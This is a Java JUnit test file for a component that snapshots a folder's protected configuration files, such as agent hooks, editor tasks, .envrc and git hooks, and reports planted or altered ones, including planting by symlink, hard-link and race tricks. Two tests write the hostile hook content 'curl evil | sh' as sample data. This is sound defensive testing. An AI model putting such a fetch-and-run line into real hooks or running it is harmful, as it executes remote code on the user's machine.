package dev.tandem.hub.jobs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tandem.core.jobs.ProtectedChange;
import dev.tandem.hub.fs.DenyList;
import dev.tandem.hub.runs.RunEvent;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The snapshot of a folder's protected files: what it looks at, what it leaves alone, and where it stops. */
class ProtectedFilesTest {
    @TempDir
    Path dir;

    @TempDir
    Path outside;

    private ProtectedFiles files(ProtectedFiles.Budget budget) {
        return new ProtectedFiles(
                DenyList.of(Path.of("/nonexistent-home"), List.of(), DenyList.WRITE_DEFAULTS), budget);
    }

    private ProtectedFiles files() {
        return files(ProtectedFiles.Budget.DEFAULT);
    }

    private Path write(String rel, String text) throws Exception {
        Path p = dir.resolve(rel);
        Files.createDirectories(p.getParent());
        return Files.writeString(p, text);
    }

    @Test
    void reportsAddedChangedAndRemovedProtectedFilesAndNothingElse() throws Exception {
        write(".envrc", "export A=1\n");
        write(".vscode/tasks.json", "{}");
        write("src/app.py", "print(1)\n");
        ProtectedFiles f = files();
        ProtectedFiles.Snapshot before = f.take(dir);
        Files.delete(dir.resolve(".envrc"));
        write(".vscode/tasks.json", "{\"tasks\":[]}");
        write(".claude/hooks/pre.sh", "#!/bin/sh\n");
        write("src/app.py", "print(2)\n");
        write("sub/project/.mcp.json", "{}");
        List<ProtectedChange> changes = ProtectedFiles.diff(before, f.take(dir));
        assertEquals(
                List.of(
                        new ProtectedChange(dir.resolve(".claude").toString(), "added"),
                        new ProtectedChange(dir.resolve(".claude/hooks").toString(), "added"),
                        new ProtectedChange(dir.resolve(".claude/hooks/pre.sh").toString(), "added"),
                        new ProtectedChange(dir.resolve(".vscode/tasks.json").toString(), "changed"),
                        new ProtectedChange(dir.resolve("sub/project/.mcp.json").toString(), "added"),
                        new ProtectedChange(dir.resolve(".envrc").toString(), "removed")),
                changes);
    }

    @Test
    void anExecutableBitOnAHookIsAChange() throws Exception {
        Path hook = write(".husky/pre-commit", "npm test\n");
        ProtectedFiles f = files();
        ProtectedFiles.Snapshot before = f.take(dir);
        Files.setPosixFilePermissions(hook, PosixFilePermissions.fromString("rwxr-xr-x"));
        assertEquals(
                List.of(new ProtectedChange(hook.toString(), "changed")), ProtectedFiles.diff(before, f.take(dir)));
    }

    @Test
    void aLinkIsRecordedByItsTargetAndNeverFollowedOutOfTheFolder() throws Exception {
        Files.writeString(outside.resolve("settings.json"), "{}");
        Files.createDirectories(dir.resolve(".claude"));
        Path link = Files.createSymbolicLink(dir.resolve(".claude/settings.json"), outside.resolve("settings.json"));
        Files.createSymbolicLink(dir.resolve("elsewhere"), outside);
        Files.createDirectories(outside.resolve(".claude/hooks"));
        ProtectedFiles f = files();
        ProtectedFiles.Snapshot before = f.take(dir);
        assertEquals(
                List.of(dir.resolve(".claude").toString(), link.toString()),
                List.copyOf(before.entries().keySet()));
        assertEquals("link", before.entries().get(link.toString()).type());
        // the target changes: the link does not, and nothing outside the folder is looked at
        Files.writeString(outside.resolve("settings.json"), "{\"hooks\":{}}");
        Files.writeString(outside.resolve(".claude/hooks/x.sh"), "x");
        assertEquals(List.of(), ProtectedFiles.diff(before, f.take(dir)));
    }

    @Test
    void gitIsSkipped() throws Exception {
        write(".git/hooks/.envrc", "x");
        write(".git/.mcp.json", "{}");
        assertEquals(0, files().take(dir).entries().size());
    }

    @Test
    void aFolderLargerThanTheBudgetIsReportedAsNotFullyChecked() throws Exception {
        for (int i = 0; i < 30; i++) {
            write("many/f" + i + ".txt", "x");
        }
        ProtectedFiles small = files(new ProtectedFiles.Budget(10, 1024, Duration.ofSeconds(5)));
        ProtectedFiles.Snapshot s = small.take(dir);
        assertTrue(!s.complete());
        assertEquals(
                List.of(new ProtectedChange(dir.toString(), "unchecked")), ProtectedFiles.diff(s, small.take(dir)));
    }

    @Test
    void aFifoInPlaceOfAProtectedFileIsRecordedNotRead() throws Exception {
        Process mk = new ProcessBuilder("mkfifo", dir.resolve(".envrc").toString()).start();
        assertEquals(0, mk.waitFor());
        ProtectedFiles.Snapshot s = files().take(dir);
        assertEquals("other", s.entries().get(dir.resolve(".envrc").toString()).type());
    }

    @Test
    void aFolderSwappedForAFifoDuringTheLookNeverHoldsItUp() throws Exception {
        for (int i = 0; i < 200; i++) {
            write("d/sub" + i + "/x.txt", "x");
        }
        write(".claude/settings.json", "{}");
        Path fifo = dir.resolve("spare-fifo");
        Process mk = new ProcessBuilder("mkfifo", fifo.toString()).start();
        assertEquals(0, mk.waitFor());
        ProtectedFiles f = files();
        try (Swapper s = new Swapper(dir.resolve("d"), fifo)) {
            s.start();
            long end = System.nanoTime() + Duration.ofSeconds(2).toNanos();
            int looks = 0;
            while (System.nanoTime() < end || s.swaps.get() < 100) {
                ProtectedFiles.Snapshot snap = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> f.take(dir));
                assertTrue(snap.entries()
                        .containsKey(dir.resolve(".claude/settings.json").toString()));
                looks++;
            }
            assertTrue(looks > 0);
        }
    }

    @Test
    void aLinkSwappedInForAFolderDuringTheLookIsNeverFollowed() throws Exception {
        String secret = "{\"hooks\":\"secret " + System.nanoTime() + "\"}";
        Files.createDirectories(outside.resolve(".claude"));
        Files.writeString(outside.resolve(".claude/settings.json"), secret);
        String secretHash = java.util.HexFormat.of()
                .formatHex(java.security.MessageDigest.getInstance("SHA-256")
                        .digest(secret.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        write(".claude/settings.json", "{}");
        for (int i = 0; i < 50; i++) {
            write(".claude/hooks/h" + i + ".sh", "x" + i);
        }
        Path link = Files.createSymbolicLink(dir.resolve("spare-link"), outside.resolve(".claude"));
        ProtectedFiles f = files();
        try (Swapper s = new Swapper(dir.resolve(".claude"), link)) {
            s.start();
            long end = System.nanoTime() + Duration.ofSeconds(2).toNanos();
            while (System.nanoTime() < end || s.swaps.get() < 100) {
                ProtectedFiles.Snapshot snap = f.take(dir);
                for (var e : snap.entries().entrySet()) {
                    assertNotEquals(secretHash, e.getValue().content(), e.getKey() + " was read outside the folder");
                }
            }
        }
    }

    @Test
    void aLinkOnTheWayToAnEntryIsRecordedWithItsTarget() throws Exception {
        ProtectedFiles f = files();
        ProtectedFiles.Snapshot before = f.take(dir);
        // Claude Code follows .claude to load the settings planted outside the folder
        Files.createDirectories(outside.resolve("x"));
        Files.writeString(outside.resolve("x/settings.json"), "{\"hooks\":{}}");
        Files.createSymbolicLink(dir.resolve(".claude"), outside.resolve("x"));
        Files.createDirectories(dir.resolve("sub"));
        Files.createSymbolicLink(dir.resolve("sub/.vscode"), outside.resolve("x"));
        ProtectedFiles.Snapshot after = f.take(dir);
        assertEquals(
                List.of(
                        new ProtectedChange(dir.resolve(".claude").toString(), "added"),
                        new ProtectedChange(dir.resolve("sub/.vscode").toString(), "added")),
                ProtectedFiles.diff(before, after));
        assertEquals(
                "link", after.entries().get(dir.resolve(".claude").toString()).type());
        assertEquals(
                outside.resolve("x").toString(),
                after.entries().get(dir.resolve(".claude").toString()).content());
    }

    @Test
    void aPermissionChangeOnAFolderOnTheWayIsAChange() throws Exception {
        write(".claude/settings.json", "{}");
        ProtectedFiles f = files();
        ProtectedFiles.Snapshot before = f.take(dir);
        Files.setPosixFilePermissions(dir.resolve(".claude"), PosixFilePermissions.fromString("--x------"));
        try {
            assertTrue(ProtectedFiles.diff(before, f.take(dir))
                    .contains(new ProtectedChange(dir.resolve(".claude").toString(), "changed")));
        } finally {
            Files.setPosixFilePermissions(dir.resolve(".claude"), PosixFilePermissions.fromString("rwx------"));
        }
    }

    @Test
    void entriesAtTheTopAreLookedAtBeforeTheBudgetGoesOnOtherFiles() throws Exception {
        for (int i = 0; i < 30; i++) {
            write("+many/f" + i + ".txt", "x");
        }
        write(".claude/settings.json", "{}");
        ProtectedFiles.Snapshot s = files(new ProtectedFiles.Budget(10, 1024, Duration.ofSeconds(5)))
                .take(dir);
        assertTrue(!s.complete());
        assertTrue(s.entries().containsKey(dir.resolve(".claude/settings.json").toString()), s.entries()::toString);
    }

    @Test
    void aFolderHoldingMoreEntriesThanTheBudgetIsReadNoFurtherThanIt() throws Exception {
        // names on the list at any depth, all at the top: each would be looked at in the first pass
        for (int i = 0; i < 40; i++) {
            write("a" + i + ".code-workspace", "{}");
        }
        ProtectedFiles.Snapshot s = files(new ProtectedFiles.Budget(10, 1024, Duration.ofSeconds(5)))
                .take(dir);
        assertTrue(!s.complete());
        assertTrue(s.entries().size() <= 10, s.entries()::toString);
    }

    @Test
    void anIncompleteLookCallsNothingItDidNotReachRemovedAndSaysSoFirst() throws Exception {
        for (int i = 0; i < 30; i++) {
            write("m/f" + i + ".txt", "x");
        }
        write("zz/.envrc", "x");
        ProtectedFiles.Snapshot before = files().take(dir);
        assertTrue(before.entries().containsKey(dir.resolve("zz/.envrc").toString()));
        write(".envrc", "planted");
        ProtectedFiles.Snapshot after = files(new ProtectedFiles.Budget(10, 1024, Duration.ofSeconds(5)))
                .take(dir);
        assertEquals(
                List.of(
                        new ProtectedChange(dir.toString(), "unchecked"),
                        new ProtectedChange(dir.resolve(".envrc").toString(), "added")),
                ProtectedFiles.diff(before, after));
    }

    @Test
    void whatAnIncompleteFirstLookDidNotReachIsPresentNotAdded() throws Exception {
        for (int i = 0; i < 30; i++) {
            write("m/f" + i + ".txt", "x");
        }
        Path old = write("zz/.envrc", "there before");
        ProtectedFiles.Snapshot before = files(new ProtectedFiles.Budget(10, 1024, Duration.ofSeconds(5)))
                .take(dir);
        assertTrue(!before.complete());
        assertTrue(!before.entries().containsKey(old.toString()), before.entries()::toString);
        Path planted = write(".envrc", "planted");
        // the first look stopped before it had listed the top whole: nothing there is called added
        assertEquals(
                List.of(
                        new ProtectedChange(dir.toString(), "unchecked"),
                        new ProtectedChange(planted.toString(), "present"),
                        new ProtectedChange(old.toString(), "present")),
                ProtectedFiles.diff(before, files().take(dir)));
        // a look that failed reached nothing
        assertEquals(
                List.of(
                        new ProtectedChange(dir.toString(), "unchecked"),
                        new ProtectedChange(planted.toString(), "present"),
                        new ProtectedChange(old.toString(), "present")),
                ProtectedFiles.diff(new ProtectedFiles.Snapshot(dir, Map.of(), false), files().take(dir)));
    }

    @Test
    void aFilePastTheByteBudgetIsComparedByIdentitySizeAndTimeAndTheWalkGoesOn() throws Exception {
        write(".envrc", "x".repeat(100));
        write("z/.mcp.json", "{}");
        ProtectedFiles f = files(new ProtectedFiles.Budget(1000, 10, Duration.ofSeconds(5)));
        ProtectedFiles.Snapshot before = f.take(dir);
        assertTrue(before.complete());
        assertTrue(before.entries().containsKey(dir.resolve("z/.mcp.json").toString()));
        write(".envrc", "y".repeat(101));
        assertEquals(
                List.of(new ProtectedChange(dir.resolve(".envrc").toString(), "changed")),
                ProtectedFiles.diff(before, f.take(dir)));
    }

    @Test
    void nestedRepositoriesHooksAndConfigAreLookedAtTheFoldersOwnGitIsNot() throws Exception {
        write(".git/hooks/pre-commit", "x");
        write("sub/.git/config", "[core]\n");
        write("sub/.git/objects/ab/cd", "x");
        ProtectedFiles f = files();
        ProtectedFiles.Snapshot before = f.take(dir);
        assertTrue(before.entries().containsKey(dir.resolve("sub/.git/config").toString()), before.entries()::toString);
        assertTrue(!before.entries()
                .containsKey(dir.resolve("sub/.git/objects/ab/cd").toString()));
        write("sub/.git/hooks/pre-commit", "curl evil | sh");
        write(".git/hooks/post-commit", "x");
        assertEquals(
                List.of(
                        new ProtectedChange(dir.resolve("sub/.git/hooks").toString(), "added"),
                        new ProtectedChange(
                                dir.resolve("sub/.git/hooks/pre-commit").toString(), "added")),
                ProtectedFiles.diff(before, f.take(dir)));
    }

    @Test
    void aProtectedFileSwappedForAHardLinkWithTheSameBytesIsAChange() throws Exception {
        Path envrc = write(".envrc", "export A=1\n");
        Files.writeString(outside.resolve("same"), "export A=1\n");
        Files.setLastModifiedTime(outside.resolve("same"), Files.getLastModifiedTime(envrc));
        ProtectedFiles f = files();
        ProtectedFiles.Snapshot before = f.take(dir);
        // the same bytes, size, mode and time, but another file: what is written elsewhere now shows here
        Files.delete(envrc);
        Files.createLink(envrc, outside.resolve("same"));
        assertEquals(
                List.of(new ProtectedChange(envrc.toString(), "changed")), ProtectedFiles.diff(before, f.take(dir)));
    }

    @Test
    void aSecondNameGivenToAProtectedFileIsAChange() throws Exception {
        Path envrc = write(".envrc", "export A=1\n");
        ProtectedFiles f = files();
        ProtectedFiles.Snapshot before = f.take(dir);
        Files.createLink(outside.resolve("later"), envrc); // written through later, it changes here
        assertEquals(
                List.of(new ProtectedChange(envrc.toString(), "changed")), ProtectedFiles.diff(before, f.take(dir)));
    }

    @Test
    void aSubfolderAddedToAProtectedFolderChangesNotTheFolder() throws Exception {
        write(".claude/skills/a/SKILL.md", "a");
        ProtectedFiles f = files();
        ProtectedFiles.Snapshot before = f.take(dir);
        write(".claude/skills/b/SKILL.md", "b");
        assertEquals(
                List.of(
                        new ProtectedChange(dir.resolve(".claude/skills/b").toString(), "added"),
                        new ProtectedChange(
                                dir.resolve(".claude/skills/b/SKILL.md").toString(), "added")),
                ProtectedFiles.diff(before, f.take(dir)));
    }

    @Test
    void aJobsNextProcessReportsWhatChangedSinceThePreviousProcessesLastLook() throws Exception {
        Path envrc = write(".envrc", "a");
        ProtectedFiles f = files();
        ProtectedWatch one = new ProtectedWatch(f, dir);
        assertEquals(List.of(), process(one));
        write(".envrc", "planted between the processes");
        ProtectedWatch two = new ProtectedWatch(f, dir, one.lastLook());
        assertEquals(List.of(new ProtectedChange(envrc.toString(), "changed")), process(two));
        // a watch of another folder is not compared with it
        ProtectedWatch three =
                new ProtectedWatch(f, dir, Optional.of(new ProtectedFiles.Snapshot(outside, Map.of(), true)));
        assertEquals(List.of(), process(three));
    }

    /** Runs a process's looks on {@code watch}: the first, then the one at its exit; returns what that reported. */
    private static List<ProtectedChange> process(ProtectedWatch watch) throws Exception {
        CompletableFuture<Void> started = new CompletableFuture<>();
        watch.first(() -> started.complete(null));
        started.get(10, TimeUnit.SECONDS);
        CompletableFuture<List<ProtectedChange>> exit = new CompletableFuture<>();
        watch.after(new RunEvent.Exited(0, Optional.empty(), ""), exit::complete);
        return exit.get(10, TimeUnit.SECONDS);
    }

    @Test
    void aNestedGitFileIsRecordedByItsContent() throws Exception {
        Path gitFile = write("sub/.git", "gitdir: " + outside.resolve("x") + "\n");
        ProtectedFiles f = files();
        ProtectedFiles.Snapshot before = f.take(dir);
        ProtectedFiles.Entry e = before.entries().get(gitFile.toString());
        assertEquals("file", e == null ? null : e.type(), before.entries()::toString);
        Files.writeString(gitFile, "gitdir: " + outside.resolve("y") + "\n");
        assertEquals(
                List.of(new ProtectedChange(gitFile.toString(), "changed")), ProtectedFiles.diff(before, f.take(dir)));
    }

    @Test
    void theFoldersOwnGitIsSkippedWhateverItIsAndHowEverItIsSpelt() throws Exception {
        write(".git", "gitdir: " + outside.resolve("x") + "\n");
        write("sub/.GIT/config", "[core]\n");
        write("sub/.GIT/objects/ab/cd", "x");
        ProtectedFiles.Snapshot s = files().take(dir);
        assertEquals(
                List.of(dir.resolve("sub/.GIT/config").toString()),
                List.copyOf(s.entries().keySet()));
    }

    @Test
    void aFolderReplacedBetweenTwoLooksIsUnchecked() throws Exception {
        Path job = dir.resolve("job");
        Files.createDirectories(job);
        Files.writeString(job.resolve(".envrc"), "x");
        ProtectedFiles f = files();
        ProtectedFiles.Snapshot before = f.take(job);
        Files.move(job, dir.resolve("old"));
        Files.createDirectories(job);
        Files.writeString(job.resolve(".envrc"), "x");
        assertEquals(
                List.of(
                        new ProtectedChange(job.toString(), "unchecked"),
                        new ProtectedChange(job.resolve(".envrc").toString(), "changed")),
                ProtectedFiles.diff(before, f.take(job)));
        ProtectedFiles.Snapshot now = f.take(job);
        assertEquals(List.of(), ProtectedFiles.diff(now, f.take(job)));
    }

    @Test
    void theHooksFolderTheRepositoryNamesIsLookedAt() throws Exception {
        Path home = outside.resolve("home");
        Files.createDirectories(home);
        Files.writeString(home.resolve(".gitconfig"), "[user]\n\tname = me\n");
        write(".git/config", "[core]\n\thooksPath = scripts/hooks\n");
        write(".git/HEAD", "ref: refs/heads/main\n");
        Files.createDirectories(dir.resolve(".git/objects"));
        Files.createDirectories(dir.resolve(".git/refs"));
        Files.createDirectories(dir.resolve("scripts/hooks"));
        ProtectedFiles f = new ProtectedFiles(
                DenyList.of(Path.of("/nonexistent-home"), List.of(), DenyList.WRITE_DEFAULTS),
                dev.tandem.hub.fs.HooksPaths.of(home, home.resolve(".config")),
                ProtectedFiles.Budget.DEFAULT);
        ProtectedFiles.Snapshot before = f.take(dir);
        write("scripts/hooks/pre-commit", "curl evil | sh");
        assertTrue(ProtectedFiles.diff(before, f.take(dir))
                .contains(new ProtectedChange(
                        dir.resolve("scripts/hooks/pre-commit").toString(), "added")));
    }

    /** Swaps {@code target} with {@code spare} (a FIFO, a link) and back, with atomic renames, until closed. */
    private static final class Swapper extends Thread implements AutoCloseable {
        private final Path target;
        private final Path spare;
        private final Path held;
        private final java.util.concurrent.atomic.AtomicBoolean running =
                new java.util.concurrent.atomic.AtomicBoolean(true);
        final java.util.concurrent.atomic.AtomicInteger swaps = new java.util.concurrent.atomic.AtomicInteger();

        Swapper(Path target, Path spare) {
            this.target = target;
            this.spare = spare;
            this.held = target.resolveSibling(target.getFileName() + ".held");
            setDaemon(true);
        }

        @Override
        public void run() {
            try {
                while (running.get()) {
                    move(target, held);
                    move(spare, target);
                    Thread.sleep(0, 200_000); // the spare stays in place about half the time
                    move(target, spare);
                    move(held, target);
                    swaps.incrementAndGet();
                }
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        }

        private static void move(Path from, Path to) throws java.io.IOException {
            Files.move(from, to, java.nio.file.StandardCopyOption.ATOMIC_MOVE);
        }

        @Override
        public void close() throws java.io.IOException {
            running.set(false);
            try {
                join(10_000);
                closeFifo();
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        }

        private void closeFifo() throws java.io.IOException, InterruptedException {
            if (Files.getAttribute(spare, "unix:mode", java.nio.file.LinkOption.NOFOLLOW_LINKS) instanceof Integer m
                    && (m & 0170000) == 0010000) {
                // whatever still waits on the FIFO gets a writer, so nothing outlives the test
                new ProcessBuilder("timeout", "2", "sh", "-c", "exec 3>\"$1\"; sleep 0.2", "sh", spare.toString())
                        .start()
                        .waitFor(5, java.util.concurrent.TimeUnit.SECONDS);
            }
        }
    }
}
